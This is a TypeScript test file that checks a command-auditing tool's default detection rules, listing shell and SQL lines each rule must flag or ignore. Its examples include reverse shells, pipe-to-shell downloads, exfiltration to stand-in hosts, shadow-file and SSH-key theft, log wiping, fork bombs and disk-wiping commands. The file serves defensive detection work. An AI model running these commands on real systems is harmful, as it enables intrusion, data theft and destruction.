import { describe, expect, it } from "vitest";
import { DEFAULT_RULES } from "@/lib/analysis/default-rules";
import { compileRules, type MatchableRule } from "@/lib/analysis/engine";
import { checkPattern } from "@/lib/analysis/patterns";

/** For each default rule: command lines it must match, and close look-alikes it must not. */
const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
  "Root shell through su or sudo": {
    match: ["sudo su -", "sudo su", "su -", "su", "su root", "ls; su -l", "sudo -i", "sudo -s", "sudo -u root -i", "sudo bash", "/usr/bin/sudo -iu postgres"],
    ignore: ["sudo ls -la", "echo su", "sudo systemctl restart nginx", "su - postgres -c 'psql'", "sudo apt install subversion", "ssh user@host"],
  },
  "Privilege escalation with pkexec or doas": {
    match: ["pkexec /bin/sh", "doas vi /etc/hosts", "pkexec"],
    ignore: ["man pkexecd", "cat doas.conf.example"],
  },
  "Setuid or setgid bit set": {
    match: ["chmod u+s /tmp/sh", "chmod 4755 /usr/local/bin/tool", "sudo chmod g+s dir", "chmod 6755 x", "chmod +s /bin/bash"],
    ignore: ["chmod 755 script.sh", "chmod 0755 script.sh", "chmod 1777 /tmp/shared", "chmod u+x run.sh"],
  },
  "Sudoers or administrator group changed": {
    match: [
      "visudo",
      "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
      "usermod -aG sudo bob",
      "sudo usermod -a -G wheel eve",
      "gpasswd -a bob sudo",
      "echo x | sudo tee -a /etc/sudoers",
    ],
    ignore: ["cat /etc/sudoers.d/README", "usermod -aG docker bob", "groups bob"],
  },
  "Shell history cleared or disabled": {
    match: [
      "history -c",
      "unset HISTFILE",
      "export HISTFILE=/dev/null",
      "export HISTSIZE=0",
      "set +o history",
      "> ~/.bash_history",
      "rm -f ~/.bash_history",
      "ln -sf /dev/null ~/.bash_history",
      "history -d 1042",
    ],
    ignore: ["history", "history | grep ssh", "cat ~/.bash_history", "echo $HISTFILE"],
  },
  "System logs deleted or truncated": {
    match: [
      "rm -rf /var/log/*",
      "rm /var/log/auth.log",
      "shred -u /var/log/secure",
      "> /var/log/wtmp",
      "truncate -s 0 /var/log/syslog",
      "journalctl --vacuum-time=1s",
      "sudo journalctl --rotate",
      "cp /dev/null /var/log/messages",
    ],
    ignore: ["tail -f /var/log/syslog", "echo ok >> /var/log/app.log", "journalctl -u nginx --since today", "ls /var/log"],
  },
  "Auditing stopped or audit rules removed": {
    match: [
      "auditctl -D",
      "auditctl -e 0",
      "systemctl stop auditd",
      "sudo systemctl disable rsyslog",
      "service auditd stop",
      "systemctl mask systemd-journald.service",
    ],
    ignore: ["auditctl -l", "systemctl status auditd", "systemctl restart rsyslog", "auditctl -e 1"],
  },
  "File securely wiped": {
    match: ["shred -u secrets.txt", "wipe -f disk.img", "srm -r old"],
    ignore: ["shredder", "echo shred"],
  },
  "Recursive delete of the root or a system folder": {
    match: ["rm -rf /", "sudo rm -rf --no-preserve-root /", "rm -fr /etc", "rm -r -f /usr/", "rm -rf /*", "rm -rf ~", "rm -Rf /home/*"],
    ignore: ["rm -rf /tmp/build", "rm -rf ./node_modules", "rm -f /etc/nginx/sites-enabled/old", "rm -r /srv/data/cache"],
  },
  "File system formatted": {
    match: ["mkfs.ext4 /dev/sda1", "mkfs -t xfs /dev/vdb", "mkswap /dev/sdb2", "wipefs -a /dev/sdc"],
    ignore: ["man mkfs", "which mkfs.ext4"],
  },
  "Raw write to a disk device": {
    match: ["dd if=/dev/zero of=/dev/sda bs=1M", "dd if=image.iso of=/dev/nvme0n1", "cat /dev/urandom > /dev/sdb"],
    ignore: ["dd if=/dev/sda of=backup.img", "dd if=/dev/zero of=/tmp/file bs=1M count=10", "echo > /dev/null"],
  },
  "Fork bomb": {
    match: [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
    ignore: ["f() { echo hi; }; f", "ls | grep x &"],
  },
  "System shut down or rebooted": {
    match: ["shutdown -h now", "sudo reboot", "init 0", "systemctl poweroff", "halt"],
    ignore: ["systemctl status", "echo rebooted", "init.sh"],
  },
  "Database password on the command line": {
    match: [
      "mysql -u root -pS3cret prod",
      "mysqldump --password=hunter2 db",
      "PGPASSWORD=x psql -h db",
      "psql postgresql://app:pw@db/prod",
      "redis-cli -a secret",
      "sqlcmd -S db -U sa -P Passw0rd",
    ],
    ignore: ["mysql -u root -p", "mysql -u root -p prod", "mysql -P 3306 -h db", "psql -h db -U app prod"],
  },
  "SSH password on the command line": {
    match: ["sshpass -p 'hunter2' ssh root@db", "sshpass -e -p secret scp a b:"],
    ignore: ["sshpass -f ~/.pw ssh host", "ssh -p 2222 host"],
  },
  "HTTP credentials on the command line": {
    match: [
      "curl -u admin:secret https://api.example.com",
      "curl --user bob:pw http://x",
      "wget --password=pw http://x/f",
      "curl https://bob:pw@example.com/a",
    ],
    ignore: ["curl -u admin https://api.example.com", "curl https://example.com/a:b", "wget http://example.com/file"],
  },
  "Secret exported in an environment variable": {
    match: ["export AWS_SECRET_ACCESS_KEY=AKIAxyz", "GITHUB_TOKEN=ghp_123 gh pr list", "export DB_PASSWORD=hunter2"],
    ignore: ["export PATH=$PATH:/opt/bin", "echo $AWS_SECRET_ACCESS_KEY", "export DB_PASSWORD=$(cat /run/secret)"],
  },
  "Scheduled task edited or removed": {
    match: [
      "crontab -e",
      "crontab -r",
      "crontab -u www-data -e",
      "crontab mycron.txt",
      "echo '* * * * * /tmp/x' >> /etc/crontab",
      "cp job /etc/cron.d/job",
      "at now + 1 minute",
    ],
    ignore: ["crontab -l", "cat /etc/crontab", "ls /etc/cron.d/"],
  },
  "Service enabled at boot": {
    match: ["systemctl enable backdoor.service", "sudo systemctl --now enable x", "update-rc.d evil defaults", "chkconfig evil on"],
    ignore: ["systemctl is-enabled nginx", "systemctl status nginx", "systemctl disable x"],
  },
  "SSH authorized keys written": {
    match: [
      "echo ssh-rsa AAA >> ~/.ssh/authorized_keys",
      "cat key.pub >> /root/.ssh/authorized_keys",
      "cp key /home/bob/.ssh/authorized_keys",
      "ssh-copy-id bob@host",
      "tee -a .ssh/authorized_keys",
    ],
    ignore: ["cat ~/.ssh/authorized_keys", "ls -la ~/.ssh"],
  },
  "Boot or logon script modified": {
    match: [
      "echo '/tmp/x &' >> /etc/rc.local",
      "vim /etc/rc.local",
      "echo 'curl x|sh' >> ~/.bashrc",
      "sed -i 's/a/b/' /etc/profile",
      "cp evil.sh /etc/profile.d/evil.sh",
    ],
    ignore: ["cat /etc/rc.local", "source ~/.bashrc", "less /etc/profile"],
  },
  "Local account created": {
    match: ["useradd -m backdoor", "adduser eve", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"],
    ignore: ["cat /etc/passwd", "id eve", "getent passwd eve"],
  },
  "Downloaded script run by a shell": {
    match: [
      "curl http://x | sh",
      "curl -fsSL https://get.example.com | sudo bash",
      "wget -O- http://x/i.sh | bash",
      "curl http://x/a.py | python3",
      "bash <(curl -s http://x)",
      'sh -c "$(curl -fsSL http://x)"',
    ],
    ignore: ["curl -o install.sh http://x", "curl http://x | grep sh", "wget http://x/file.tar.gz", "curl -s https://x/health | jq ."],
  },
  "Interpreter one-liner with network access": {
    match: [
      "python3 -c 'import urllib.request; exec(urllib.request.urlopen(\"http://x\").read())'",
      'python -c "import socket,os;s=socket.socket()"',
      "perl -e 'use IO::Socket; ...'",
      "ruby -e 'require \"net/http\"; Net::HTTP.get(...)'",
    ],
    ignore: ["python3 -c 'print(1+1)'", "python3 script.py", "perl -e 'print 42'"],
  },
  "Reverse shell": {
    match: [
      "nc -e /bin/sh 203.0.113.9 4444",
      "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
      "socat tcp:x:4444 exec:/bin/sh",
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
    ],
    ignore: ["nc -zv db 5432", "nc -l 8080", "ls /dev/tty"],
  },
  "Downloaded file made executable": {
    match: ["wget http://x/bin && chmod +x bin", "curl -o t http://x/t; chmod 755 t"],
    ignore: ["wget http://x/file.tar.gz", "chmod +x build.sh"],
  },
  "Files copied to a remote host": {
    match: [
      "scp /etc/hosts user@evil.example.com:/tmp/",
      "rsync -avz ./data backup.example.com:/srv/",
      "scp -r dump.sql bob@10.0.0.9:",
      "curl -T dump.sql ftp://x/",
      "curl -F file=@/etc/passwd http://x/up",
    ],
    ignore: ["scp bob@host:/var/log/app.log .", "rsync -av ./a ./b", "curl -s http://x/health"],
  },
  "File sent through a raw network socket": {
    match: ["nc 203.0.113.9 4444 < /etc/passwd", "cat db.sql | nc evil 9000", "tar cz /home | nc x 80", "cat secret > /dev/tcp/203.0.113.9/80"],
    ignore: ["nc -zv db 5432", "cat file | grep nc"],
  },
  "Archive streamed over SSH": {
    match: ["tar czf - /etc | ssh bob@x 'cat > etc.tgz'", "tar cf - /home | /usr/bin/ssh x dd of=h.tar"],
    ignore: ["tar czf backup.tgz /srv", "ssh x uptime"],
  },
  "Secret file encoded": {
    match: ["base64 /etc/shadow", "xxd ~/.ssh/id_rsa", "cat /etc/shadow | base64", "openssl base64 -in server.key", "base64 -w0 /home/bob/.ssh/id_ed25519"],
    ignore: ["base64 image.png", "base64 -d payload.txt > out"],
  },
  "World-writable permissions on a system file": {
    match: ["chmod 777 /etc/shadow", "chmod -R 777 /", "chmod 666 /etc/passwd", "chmod o+w /etc/sudoers", "chmod a+rwx /root", "chmod 777 ~/.ssh"],
    ignore: ["chmod 777 /tmp/scratch", "chmod 644 /etc/nginx/nginx.conf", "chmod 755 /usr/local/bin/tool", "chmod 777 ./build"],
  },
  "Password hashes accessed (/etc/shadow)": {
    match: ["cat /etc/shadow", "sudo less /etc/gshadow", "cp /etc/shadow /tmp/s", "unshadow passwd shadow"],
    ignore: ["cat /etc/passwd", "ls /etc/shadowsocks", "echo shadow"],
  },
  "Database object dropped or truncated": {
    match: ["DROP TABLE customers;", "drop database prod", "TRUNCATE orders", "truncate table audit_log", "SELECT 1; DROP SCHEMA app CASCADE"],
    ignore: ["SELECT * FROM drop_zones", "CREATE TABLE t (id int)", "-- drop table x is not run here; SELECT 1", "DROP USER bob"],
  },
  "Database structure changed": {
    match: [
      "ALTER TABLE users ADD COLUMN admin boolean",
      "alter database prod set x = 1",
      "CREATE OR REPLACE FUNCTION f() ...",
      "CREATE TRIGGER t AFTER INSERT ON x",
    ],
    ignore: ["SELECT alter_ego FROM t", "CREATE TABLE t (id int)", "ALTER USER bob WITH PASSWORD 'x'"],
  },
  "DELETE without WHERE": {
    match: ["DELETE FROM orders", "delete from orders;", "DELETE FROM public.sessions RETURNING *", "BEGIN; DELETE FROM t; COMMIT", "DELETE orders"],
    ignore: ["DELETE FROM orders WHERE id = 1", "delete from orders where created_at < now()", "SELECT * FROM deleted_rows", "DELETE FROM t\nWHERE id = 2"],
  },
  "UPDATE without WHERE": {
    match: ["UPDATE users SET password = 'x'", "update accounts set balance = 0;", "UPDATE t SET a = 1, b = 'west'"],
    ignore: ["UPDATE users SET active = false WHERE id = 7", "update t set a = 1\nwhere b = 2", "SELECT * FROM updates"],
  },
  "Privileges granted or account changed": {
    match: [
      "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
      "grant select on t to bob",
      "CREATE USER eve IDENTIFIED BY 'pw'",
      "ALTER USER root IDENTIFIED BY 'x'",
      "SET PASSWORD FOR 'root' = 'x'",
      "DROP ROLE auditor",
    ],
    ignore: ["SELECT * FROM grants_log WHERE id = 1", "SELECT user FROM t WHERE id = 1"],
  },
  "Database account table read": {
    match: [
      "SELECT user, authentication_string FROM mysql.user",
      "select * from pg_shadow",
      "SELECT rolpassword FROM pg_authid",
      "SELECT name FROM sys.sql_logins",
    ],
    ignore: ["SELECT * FROM mysql.help_topic", "SELECT usename FROM pg_stat_activity"],
  },
  "User table dumped": {
    match: ["SELECT * FROM users", "select * from public.customers;", "SELECT * FROM `accounts`", "SELECT * FROM users ORDER BY id"],
    ignore: ["SELECT * FROM users WHERE id = 1", "SELECT id, name FROM users WHERE id = 2", "SELECT * FROM users_audit", "SELECT * FROM users LIMIT 10"],
  },
  "Table exported to a file": {
    match: [
      "COPY users TO '/tmp/u.csv'",
      "copy (select * from t) to stdout",
      "SELECT * FROM t INTO OUTFILE '/tmp/t'",
      "\\copy users to 'u.csv' csv",
      "BACKUP DATABASE prod TO DISK = 'x'",
    ],
    ignore: ["COPY users FROM '/tmp/u.csv'", "SELECT * FROM t WHERE id = 1"],
  },
  "Operating system command from the database": {
    match: ["EXEC xp_cmdshell 'whoami'", "COPY t FROM PROGRAM 'id'", "SELECT sys_exec('id')", "SELECT LOAD_FILE('/etc/passwd')"],
    ignore: ["SELECT * FROM programs WHERE id = 1", "SELECT exec_count FROM t"],
  },
};

const rules: MatchableRule[] = DEFAULT_RULES.map((r, i) => ({ ...r, id: String(i) }));
const matcher = compileRules(rules);
const matchedNames = (sessionType: "terminal" | "database", text: string) => matcher.match(sessionType, text).map((r) => r.name);

describe("default audited-command rules", () => {
  it("all compile, are safe, and each has examples", () => {
    expect(matcher.skipped).toEqual([]);
    for (const rule of DEFAULT_RULES) {
      expect(checkPattern(rule.pattern, rule.sessionType), rule.name).toMatchObject({ ok: true });
      expect(EXAMPLES[rule.name], `examples for ${rule.name}`).toBeDefined();
      if (rule.mitreTechnique) expect(rule.mitreTechnique).toMatch(/^T\d{4}(\.\d{3})?$/);
      if (rule.action === "interrupt") expect(rule.attempts).toBeGreaterThanOrEqual(1);
    }
    expect(new Set(DEFAULT_RULES.map((r) => r.name)).size).toBe(DEFAULT_RULES.length);
    expect(Object.keys(EXAMPLES).sort()).toEqual(DEFAULT_RULES.map((r) => r.name).sort());
  });

  it("covers every category the product promises", () => {
    const techniques = new Set(DEFAULT_RULES.map((r) => r.mitreTechnique?.split(".")[0]));
    // privilege escalation, log tampering, destruction, credentials, persistence, execution, exfiltration, permissions
    for (const t of ["T1548", "T1070", "T1485", "T1552", "T1053", "T1059", "T1048", "T1222", "T1098"]) expect(techniques).toContain(t);
    expect(DEFAULT_RULES.filter((r) => r.sessionType === "database").length).toBeGreaterThanOrEqual(6);
  });

  for (const rule of DEFAULT_RULES) {
    describe(rule.name, () => {
      const examples = EXAMPLES[rule.name] ?? { match: [], ignore: [] };
      it.each(examples.match)("matches %j", (line) => {
        expect(matchedNames(rule.sessionType, line)).toContain(rule.name);
      });
      it.each(examples.ignore)("does not match %j", (line) => {
        expect(matchedNames(rule.sessionType, line)).not.toContain(rule.name);
      });
    });
  }

  it("applies terminal rules to terminal sessions only, and SQL case-insensitively", () => {
    expect(matchedNames("database", "sudo su -")).toEqual([]);
    expect(matchedNames("terminal", "DROP TABLE customers;")).toEqual([]);
    expect(matchedNames("database", "dRoP tAbLe customers")).toContain("Database object dropped or truncated");
    // Shells are case-sensitive: "SUDO" is not a command.
    expect(matchedNames("terminal", "SUDO SU -")).toEqual([]);
  });

  it("the multi-pattern set agrees with matching each rule alone", () => {
    const lines = Object.values(EXAMPLES).flatMap((e) => [...e.match, ...e.ignore]);
    const single = rules.map((r) => {
      const check = checkPattern(r.pattern, r.sessionType);
      if (!check.ok) throw new Error(check.message);
      return { ...r, compiled: check.compiled };
    });
    for (const line of lines) {
      for (const sessionType of ["terminal", "database"] as const) {
        const alone = single.filter((r) => r.sessionType === sessionType && r.compiled.test(line)).map((r) => r.name);
        expect(matchedNames(sessionType, line), `${sessionType}: ${line}`).toEqual(alone);
      }
    }
  });
});
